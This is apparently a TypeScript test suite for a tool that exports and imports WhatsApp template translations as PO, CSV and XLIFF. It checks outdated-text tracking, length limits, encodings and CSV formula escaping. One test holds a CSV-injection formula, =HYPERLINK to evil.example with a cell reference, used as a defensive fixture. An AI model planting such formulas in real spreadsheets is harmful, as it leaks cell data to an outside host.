// What a translation agency's files did to the records of a project (found by a trial with a CAT
// tool's habits): a pivot export (de -> fr) of a file translated from en_US, sent back untouched,
// marked its outdated texts current; a CSV whose notes column was deleted did the same; texts over
// lint's own limits (a card's 160, an offer's 600, counted as written) and a footer with a line
// break were written, then refused by lint; a PO declared ISO-8859-1 holding Windows-1252 quotes
// wrote C1 controls; an autocorrected source cell (I'll -> I’ll) made lint call the text outdated;
// a unit in the file but not translated was said to be "not in the file"; a text starting with =
// went to the CSV as a formula a spreadsheet would run.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { parse } from 'yaml';
import { loadConfig } from '../src/config/load.ts';
import { exportTranslations, importTranslations } from '../src/cli/translations.ts';
import { textHash } from '../src/translations/units.ts';
import { CONFIG, cleanup, lintInProcess, tempDir, writeFiles } from './helpers.ts';

const BODY = 'Hi {{customer}}, your order is on its way.';
const FOOTER = 'Reply STOP to opt out';
const EN = `channel: shop-whatsapp\nname: order_shipped\nlanguage: en_US\ncategory: UTILITY\nbody:\n  text: "${BODY}"\n  examples: { customer: Maria }\nfooter: ${FOOTER}\n`;
const made = (lang: string, body: string, footer: string, from = 'en_US', hashes = [textHash(BODY), textHash(FOOTER)]): string =>
  `channel: shop-whatsapp\nname: order_shipped\nlanguage: ${lang}\ncategory: UTILITY\nbody:\n  text: "${body}"\n  examples: { customer: Maria }\nfooter: ${footer}\ntranslated_from:\n  language: ${from}\n  texts:\n    body.text: "${hashes[0]}"\n    footer: "${hashes[1]}"\n`;
const DE = made('de', 'Hallo {{customer}}, deine Bestellung ist unterwegs.', 'Antworte STOP zum Abmelden');
const FR = made('fr', 'Bonjour {{customer}}, votre commande est en route.', 'Répondez STOP pour vous désabonner');

async function project(files: Record<string, string>): Promise<{ dir: string; config: Awaited<ReturnType<typeof loadConfig>> }> {
  const dir = tempDir();
  writeFiles(dir, { 'tplsync.config.yaml': CONFIG, ...files });
  return { dir, config: await loadConfig({ cwd: dir }) };
}
const outdated = async (dir: string): Promise<string[]> => (await lintInProcess(dir)).diagnostics.filter((d) => d.ruleId === 'translation-outdated').map((d) => `${d.file}:${d.line}`);
const read = (dir: string, file: string): string => readFileSync(path.join(dir, file), 'utf8');

test('a pivot export (de -> fr) of a file translated from en_US: untouched, nothing recorded; some texts changed, refused; every text, recorded from de', async () => {
  // the English body changed since both were made; de was translated again (current), fr was not (outdated)
  const en = EN.replace('is on its way.', 'has left the warehouse.');
  const de = made('de', 'Hallo {{customer}}, deine Bestellung hat das Lager verlassen.', 'Antworte STOP zum Abmelden', 'en_US', [textHash('Hi {{customer}}, your order has left the warehouse.'), textHash(FOOTER)]);
  const { dir, config } = await project({ 'templates/order_shipped.en_US.yaml': en, 'templates/order_shipped.de.yaml': de, 'templates/order_shipped.fr.yaml': FR });
  try {
    assert.equal(await outdated(dir), ['templates/order_shipped.fr.yaml:6']);
    for (const format of ['po', 'csv', 'xliff'] as const) {
      await exportTranslations(config, [], dir, { source: 'de', targets: ['fr'], format, out: 'tr' });
      const file = `tr/fr.${format === 'xliff' ? 'xlf' : format}`;
      const r = await importTranslations(config, [file], dir);
      assert.equal([r.written, r.refusals], [[], []], format);
      assert.equal(r.otherSource.map((x) => [x.template, x.recorded, x.source]), [['shop-whatsapp/order_shipped', 'en_US', 'de']], format);
      assert.is(read(dir, 'templates/order_shipped.fr.yaml'), FR, format);
      assert.equal(await outdated(dir), ['templates/order_shipped.fr.yaml:6'], format);
    }
    // the body translated again from de, the footer left: refused (the footer was not translated from de)
    const po = read(dir, 'tr/fr.po');
    writeFiles(dir, { 'tr/fr.po': po.replace('msgstr "Bonjour {{customer}}, votre commande est en route."', 'msgstr "Bonjour {{customer}}, votre commande a quitté l\'entrepôt."') });
    let r = await importTranslations(config, ['tr/fr.po'], dir);
    assert.is(r.refusals.length, 1);
    assert.match(r.refusals[0]!.message, 'recorded as translated from en_US');
    assert.match(r.refusals[0]!.message, 'export from en_US');
    assert.is(read(dir, 'templates/order_shipped.fr.yaml'), FR);
    // every text translated from de: written, recorded from de, current
    writeFiles(dir, { 'tr/fr.po': read(dir, 'tr/fr.po').replace('msgstr "Répondez STOP pour vous désabonner"', 'msgstr "Répondez STOP pour ne plus recevoir"') });
    r = await importTranslations(config, ['tr/fr.po'], dir);
    assert.equal(r.refusals, []);
    const fr = parse(read(dir, 'templates/order_shipped.fr.yaml')) as { translated_from: { language: string } };
    assert.is(fr.translated_from.language, 'de');
    assert.equal(await outdated(dir), []);
  } finally { cleanup(dir); }
});

test('a CSV without its notes column sends back an outdated text as it is: not marked current', async () => {
  const { dir, config } = await project({ 'templates/order_shipped.en_US.yaml': EN.replace('is on its way.', 'has left the warehouse.'), 'templates/order_shipped.de.yaml': DE });
  try {
    await exportTranslations(config, [], dir, { source: 'en_US', targets: ['de'], format: 'csv', out: 'tr' });
    // the agency kept id, en_US, de
    const rows = read(dir, 'tr/de.csv').split('\r\n').map((l) => l.replace(/^((?:"(?:[^"]|"")*"|[^,]*),(?:"(?:[^"]|"")*"|[^,]*),(?:"(?:[^"]|"")*"|[^,]*)),.*$/, '$1'));
    writeFiles(dir, { 'tr/de.csv': rows.join('\r\n') });
    assert.match(read(dir, 'tr/de.csv'), /^\ufeff"id","en_US","de"\r\n/);
    const r = await importTranslations(config, ['tr/de.csv'], dir);
    assert.equal(r.stillOutdated.map((x) => x.id), ['shop-whatsapp/order_shipped:body.text']);
    assert.equal(await outdated(dir), ['templates/order_shipped.de.yaml:6']);
    assert.is(read(dir, 'templates/order_shipped.de.yaml'), DE);
  } finally { cleanup(dir); }
});

const CAROUSEL = `channel: shop-whatsapp
name: new_collection
language: en_US
category: MARKETING
body:
  text: "Our new collection is here."
carousel:
  - header: { format: IMAGE, example: https://cdn.example.com/a.jpg }
    body:
      text: "A linen shirt for {{price}}."
      examples: { price: €59 }
    buttons: [{ type: QUICK_REPLY, text: Show me }]
  - header: { format: IMAGE, example: https://cdn.example.com/b.jpg }
    body:
      text: "Cotton trousers for {{price}}."
      examples: { price: €79 }
    buttons: [{ type: QUICK_REPLY, text: Show me }]
`;

test('over lint\'s limits as written (a card\'s 160 with a sample shorter than its placeholder), a footer with a line break: refused at import', async () => {
  const { dir, config } = await project({ 'templates/new_collection.en_US.yaml': CAROUSEL, 'templates/order_shipped.en_US.yaml': EN });
  try {
    await exportTranslations(config, [], dir, { source: 'en_US', targets: ['de'], format: 'csv', out: 'tr' });
    // 165 characters as written, 159 with €59 in place of {{price}}
    const card = `${'Ein Leinenhemd aus Europa, leicht und luftig, für warme Sommertage in der Stadt und am Meer, in sechs Farben und allen Größen, '.padEnd(146, 'x')}nur {{price}} statt`;
    assert.is([...card].length, 165);
    let csv = read(dir, 'tr/de.csv');
    const fill = (id: string, text: string): void => { csv = csv.replace(new RegExp(`("${id.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}","(?:[^"]|"")*",)""`), (_m, head: string) => `${head}"${text}"`); };
    fill('shop-whatsapp/new_collection:carousel.0.body.text', card);
    fill('shop-whatsapp/order_shipped:footer', 'Antworte STOP\r\nzum Abmelden');
    writeFiles(dir, { 'tr/de.csv': csv });
    const r = await importTranslations(config, ['tr/de.csv'], dir);
    const why = Object.fromEntries(r.refusals.map((x) => [x.id, x.message]));
    assert.match(why['shop-whatsapp/new_collection:carousel.0.body.text'] ?? '', 'the translation has 165 characters; this field takes at most 160');
    assert.match(why['shop-whatsapp/order_shipped:footer'] ?? '', 'the translation has a line break, and the footer is one line');
  } finally { cleanup(dir); }
});

test('a PO declared ISO-8859-1 holding Windows-1252 quotes and dashes: read as the Encoding Standard reads the label', async () => {
  const { dir, config } = await project({ 'templates/order_shipped.en_US.yaml': EN, 'templates/order_shipped.de.yaml': DE });
  try {
    await exportTranslations(config, [], dir, { source: 'en_US', targets: ['de'], format: 'po', out: 'tr' });
    const po = read(dir, 'tr/de.po').replace('charset=UTF-8', 'charset=ISO-8859-1').replace('msgstr "Antworte STOP zum Abmelden"', 'msgstr "Antworte \u201eSTOP\u201c zum Abmelden \u2013 danke"');
    // as a Windows tool saves it: one byte a character, the quotes and the dash at 0x84, 0x93, 0x96
    const bytes = Buffer.from([...po].map((c) => ({ '\u201e': 0x84, '\u201c': 0x93, '\u2013': 0x96 } as Record<string, number>)[c] ?? c.charCodeAt(0)));
    writeFiles(dir, { 'tr/de.po': bytes as unknown as string });
    const r = await importTranslations(config, ['tr/de.po'], dir);
    assert.equal(r.refusals, []);
    assert.is((parse(read(dir, 'templates/order_shipped.de.yaml')) as { footer: string }).footer, 'Antworte \u201eSTOP\u201c zum Abmelden \u2013 danke');
  } finally { cleanup(dir); }
});

test('a source cell autocorrected (I\'ll -> I’ll) is the template\'s text: the translation is current; an untranslated unit is named as such', async () => {
  const en = EN.replace(BODY, "Hi {{customer}}, I'll ship your order today.");
  const { dir, config } = await project({ 'templates/order_shipped.en_US.yaml': en });
  try {
    await exportTranslations(config, [], dir, { source: 'en_US', targets: ['es'], format: 'csv', out: 'tr' });
    const csv = read(dir, 'tr/es.csv');
    // the footer left empty: the new file needs every text
    const half = csv.replace(/("shop-whatsapp\/order_shipped:body\.text",)"((?:[^"]|"")*)",""/, (_m, head: string) => `${head}"Hi {{customer}}, I\u2019ll ship your order today.","Hola {{customer}}, enviaré tu pedido hoy."`);
    writeFiles(dir, { 'tr/es.csv': half });
    let r = await importTranslations(config, ['tr/es.csv'], dir);
    assert.is(r.skipped.length, 1);
    assert.match(r.skipped[0]!.reason, /shop-whatsapp\/order_shipped:footer at line \d+: its translation is empty/);
    assert.not.match(r.skipped[0]!.reason, 'not in the file');
    writeFiles(dir, { 'tr/es.csv': half.replace(/("shop-whatsapp\/order_shipped:footer","[^"]*",)""/, (_m, head: string) => `${head}"Responde STOP para darte de baja"`) });
    r = await importTranslations(config, ['tr/es.csv'], dir);
    assert.equal([r.refusals, r.written.map((w) => w.file)], [[], ['templates/order_shipped.es.yaml']]);
    assert.equal(await outdated(dir), []);
  } finally { cleanup(dir); }
});

test('export of a folder the config\'s globs do not take (drafts/) reads its templates, as lint does', async () => {
  const { dir, config } = await project({ 'templates/order_shipped.en_US.yaml': EN, 'drafts/store_news.en_US.yaml': EN.replace('order_shipped', 'store_news').replace('your order is on its way', 'our store opens on Sundays') });
  try {
    const [r] = await exportTranslations(config, ['drafts'], dir, { source: 'en_US', targets: ['de'], format: 'csv', out: 'tr/de.csv' });
    assert.is(r!.skipped, undefined, r!.skipped);
    const csv = read(dir, 'tr/de.csv');
    assert.match(csv, 'shop-whatsapp/store_news:body.text');
    assert.not.match(csv, 'shop-whatsapp/order_shipped');
  } finally { cleanup(dir); }
});

test('an edit that cannot hold its texts because two places share one through a YAML anchor: the refusal names the anchor', async () => {
  const { checkApplied } = await import('../src/translations/apply.ts');
  // what the edit gave: both labels one aliased text, where the translator gave two
  const after = 'channel: wa\nname: t\nlanguage: de\nbuttons:\n  - { type: QUICK_REPLY, text: &more Zeig mal }\n  - { type: QUICK_REPLY, text: *more }\n';
  const before = { channel: 'wa', name: 't', language: 'de', buttons: [{ type: 'QUICK_REPLY', text: 'Show me' }, { type: 'QUICK_REPLY', text: 'Show me' }] };
  const why = checkApplied(after, before, [{ path: ['buttons', 0, 'text'], text: 'Zeig mal' }, { path: ['buttons', 1, 'text'], text: 'Mehr davon' }], 'en_US', {});
  assert.match(why ?? '', 'buttons.1.text differs');
  assert.match(why ?? '', 'a YAML anchor &name and its alias *name');
  // without an alias, no such words
  const plain = checkApplied(after.replace('&more ', '').replace('*more', 'Zeig mal'), before, [{ path: ['buttons', 1, 'text'], text: 'Mehr davon' }], 'en_US', {});
  assert.not.match(plain ?? '', 'anchor');
});

test('a text a spreadsheet would run as a formula goes to the CSV behind an apostrophe, and comes back without it', async () => {
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Help")';
  const en = EN.replace(`footer: ${FOOTER}`, `footer: '${formula}'`);
  const { dir, config } = await project({ 'templates/order_shipped.en_US.yaml': en });
  try {
    await exportTranslations(config, [], dir, { source: 'en_US', targets: ['de'], format: 'csv', out: 'tr' });
    const csv = read(dir, 'tr/de.csv');
    assert.match(csv, '"shop-whatsapp/order_shipped:footer","\'=HYPERLINK(""https://evil.example/?""&A1,""Help"")"');
    assert.not.match(csv, /,"=/);
    // the translator's cells as a spreadsheet saves them, the apostrophe kept where the text starts so
    const filled = csv
      .replace(/("shop-whatsapp\/order_shipped:body\.text","(?:[^"]|"")*",)""/, (_m, head: string) => `${head}"Hallo {{customer}}, deine Bestellung ist unterwegs."`)
      .replace(/("shop-whatsapp\/order_shipped:footer","(?:[^"]|"")*",)""/, (_m, head: string) => `${head}"'-20 % mit STOP abmelden"`);
    writeFiles(dir, { 'tr/de.csv': filled });
    const r = await importTranslations(config, ['tr/de.csv'], dir);
    assert.equal(r.refusals, []);
    assert.is((parse(read(dir, 'templates/order_shipped.de.yaml')) as { footer: string }).footer, '-20 % mit STOP abmelden');
    // the source cell with its apostrophe is the template's own text: nothing outdated
    assert.equal(await outdated(dir), []);
    // a text that starts with its own apostrophe before such a character keeps it: export adds one more, import takes one
    const { writeCsv, readCsv } = await import('../src/translations/formats.ts');
    const own = "'-' means closed that day";
    const csvOwn = writeCsv([{ template: 't/x', field: 'footer', id: 't/x:footer', source: own, placeholders: [], samples: {}, target: own }], 'en_US', 'nl');
    assert.match(csvOwn, `"''-' means closed that day"`);
    assert.equal(readCsv(csvOwn).entries.map((e) => [e.source, e.target]), [[own, own]]);
  } finally { cleanup(dir); }
});

test("a text the target file holds, made from the current source (its record says so), sent back as it is: taken unchecked, lint judges it in the file; the unit changed beside it is written", async () => {
  // a reviewer's hand edit dropped the placeholder (the record still names the current English text); exported after it
  const de = DE.replace('Hallo {{customer}}, deine', 'Hallo, deine');
  const { dir, config } = await project({ 'templates/order_shipped.en_US.yaml': EN, 'templates/order_shipped.de.yaml': de });
  try {
    const lintOfDe = async (): Promise<string[]> => (await lintInProcess(dir)).diagnostics.filter((d) => d.file === 'templates/order_shipped.de.yaml' && d.severity === 'error').map((d) => `${d.ruleId}:${d.line}`);
    const before = await lintOfDe();
    assert.ok(before.length > 0, 'lint finds the dropped placeholder in the file');
    for (const format of ['po', 'csv', 'xliff'] as const) {
      await exportTranslations(config, [], dir, { source: 'en_US', targets: ['de'], format, out: 'tr' });
      const file = `tr/de.${format === 'xliff' ? 'xlf' : format}`;
      // sent back as exported: nothing to write, nothing refused (the file's text is the file's: lint says it there)
      const held = read(dir, 'templates/order_shipped.de.yaml');
      let r = await importTranslations(config, [file], dir);
      assert.equal([r.written.length, r.refusals], [0, []], format);
      assert.is(read(dir, 'templates/order_shipped.de.yaml'), held, format);
      // the footer translated again beside it: written; the body as the file holds it
      const footer = `Antworte STOP (${format})`;
      writeFiles(dir, { [file]: read(dir, file).split(held.match(/^footer: (.*)$/m)![1]!).join(footer) });
      r = await importTranslations(config, [file], dir);
      assert.equal(r.refusals, [], format);
      assert.equal(r.written.map((w) => [w.file, w.changed]), [['templates/order_shipped.de.yaml', 1]], format);
      const now = read(dir, 'templates/order_shipped.de.yaml');
      assert.match(now, `footer: ${footer}`, format);
      assert.match(now, 'text: "Hallo, deine Bestellung ist unterwegs."', format);
      assert.equal(await lintOfDe(), before, format);
    }
  } finally { cleanup(dir); }
});

test.run();
